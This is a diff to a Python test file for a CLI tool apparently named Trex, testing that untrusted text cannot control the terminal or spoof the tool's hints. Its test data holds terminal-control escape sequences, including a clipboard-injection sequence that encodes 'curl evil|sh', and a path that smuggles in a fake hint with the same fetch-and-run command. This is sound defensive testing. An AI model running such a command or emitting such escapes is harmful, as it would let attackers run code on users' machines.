@@ -1,4 +1,4 @@
-"""What the command writes to a terminal commands none, wherever it came from."""
+"""What the command writes to a terminal cannot control it, wherever the text came from."""
 
 from __future__ import annotations
 
@@ -11,23 +11,23 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from trex.cli.client.context import shown
-from trex.cli.errors import ClientError
+from trex.cli.errors import CommandError
 from trex.cli.tell import printable, tell, tell_error
-from trex.cli.terminal import CommandError, answer, say, show
+from trex.cli.terminal import answer, say, show, show_error
 
 if TYPE_CHECKING:
     from collections.abc import Callable
 
 ROOT = Path(__file__).resolve().parents[3]
-# Text of a user's that would retitle the terminal, fill the clipboard, clear and go to the top.
+# A user's text that would set the terminal's title, fill the clipboard, and clear the screen.
 EVIL = "\x1b]0;title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x9b31m\u202e\r\x00"
-# These write to a terminal by themselves, after `printable`: see there.
+# These write to a terminal themselves, after `printable`.
 WRITERS = {"trex/cli/terminal.py", "trex/cli/tell.py"}
-# Its own words, a code of the command's own making, or a response that was checked for its form.
+# Fixed texts, a QR code that the command made, or a response whose form was checked.
 EXEMPT = {
     ("trex/cli/setup/phone.py", "click.echo"), ("trex/cli/setup/phone.py", "click.prompt"),
     ("trex/cli/client/pin.py", "click.confirm"), ("trex/cli/client/askpass.py", "sys.stdout.write"),
-    ("trex/cli/client/waiting.py", "sys.stderr.write"),  # one line, escaped there, which it erases again
+    ("trex/cli/client/waiting.py", "sys.stderr.write"),  # one escaped line, which it erases again
 }  # fmt: skip
 WRITING = ("click.echo", "click.secho", "click.prompt", "click.confirm", "sys.stdout.write",
            "sys.stderr.write", "print")  # fmt: skip
@@ -44,10 +44,10 @@ def test_nothing_that_commands_a_terminal_is_written(
 
 
 def test_an_error_is_one_line_and_its_hint_another(capsys: pytest.CaptureFixture[str]) -> None:
-    """A path may hold a line end, and what follows would look like a hint of Trex's to root."""
+    """A path may contain a line end, and the rest would look like one of Trex's hints to root."""
     path = f"/home/mallory/x\ntrex: hint: curl evil|sh {EVIL}"
-    CommandError(f"{path}: no such file", f"ls {path}").show()
-    tell_error(ClientError(f"{path}: no such file", f"ls {path}"))
+    show_error(f"{path}: no such file", f"ls {path}")
+    tell_error(CommandError(f"{path}: no such file", f"ls {path}"))
     captured = capsys.readouterr()
     assert captured.out == ""
     assert len(captured.err.splitlines()) == 4
